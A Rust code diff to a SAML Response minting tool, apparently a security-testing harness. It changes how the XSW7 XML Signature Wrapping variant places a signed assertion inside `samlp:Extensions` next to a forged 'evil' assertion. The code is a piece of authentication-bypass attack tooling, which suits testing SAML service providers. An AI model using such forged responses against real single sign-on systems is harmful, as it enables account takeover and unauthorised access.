@@ -570,6 +570,9 @@ pub fn mint(input: &MintInput<'_>, signer: &dyn XmlSigner, encryptor: &dyn XmlEn
     let mut fragments: Vec<Fragment> = Vec::new();
     let mut signed_first: Option<String> = None;
     let mut response_prefix: Vec<String> = Vec::new();
+    // `samlp:Extensions` has a fixed place in the Response (after Issuer and Signature, before
+    // Status); it is inserted there when the Response is written, not among the assertions.
+    let mut extensions: Option<String> = None;
     for (i, a) in model.assertions.iter().enumerate() {
         let s = build_assertion(a)?;
         if i == 0 {
@@ -687,7 +690,7 @@ pub fn mint(input: &MintInput<'_>, signer: &dyn XmlSigner, encryptor: &dyn XmlEn
                         }
                     }
                     XswVariant::Xsw7 => {
-                        response_prefix.push(format!(r#"<samlp:Extensions>{signed}</samlp:Extensions>"#));
+                        extensions = Some(format!(r#"<samlp:Extensions>{signed}</samlp:Extensions>"#));
                         fragments[0] = Fragment { xml: write_assertion(&evil, None), encrypt: true };
                     }
                     XswVariant::Xsw1 | XswVariant::Xsw2 => {
@@ -724,13 +727,22 @@ pub fn mint(input: &MintInput<'_>, signer: &dyn XmlSigner, encryptor: &dyn XmlEn
         _ => None,
     });
     let sign_response = plan.has(|f| matches!(f, Fault::SignResponse)) || xsw_response.is_some();
+    let place_extensions = |x: String| -> String {
+        match &extensions {
+            Some(e) => match x.find("<samlp:Status") {
+                Some(p) => format!("{}{e}{}", &x[..p], &x[p..]),
+                None => x.replacen("</samlp:Response>", &format!("{e}</samlp:Response>"), 1),
+            },
+            None => x,
+        }
+    };
     let mut response_xml = if sign_response {
         let rid = model.id.clone().unwrap_or_default();
         let tpl = signature_template(&rid, cert_for(key).as_deref(), sha1);
-        let x = write_response_with_signature(&model, &out_fragments, Some(&tpl));
+        let x = place_extensions(write_response_with_signature(&model, &out_fragments, Some(&tpl)));
         signer.sign_enveloped(x, &key.signer, sha1)?
     } else {
-        write_response_with_signature(&model, &out_fragments, None)
+        place_extensions(write_response_with_signature(&model, &out_fragments, None))
     };
     if let Some((variant, v)) = xsw_response {
         // Evil response around the genuinely signed one.
